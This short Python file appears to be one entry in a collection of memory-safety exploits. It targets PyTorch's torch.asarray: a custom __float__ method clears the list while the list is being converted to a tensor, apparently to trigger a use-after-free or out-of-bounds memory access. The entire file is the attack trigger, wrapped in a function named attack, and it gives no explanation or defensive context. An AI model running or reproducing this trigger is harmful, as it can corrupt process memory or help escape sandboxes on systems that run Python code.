"""Class: memory. Source: own find. Escape: the same, by torch.asarray."""

import torch


class Item:
    def __float__(self):
        data.clear()
        return 0.0


data = [Item()] + [1.0] * 5_000_000


def attack(model, tokenizer, address):
    torch.asarray(data, dtype=torch.float64)
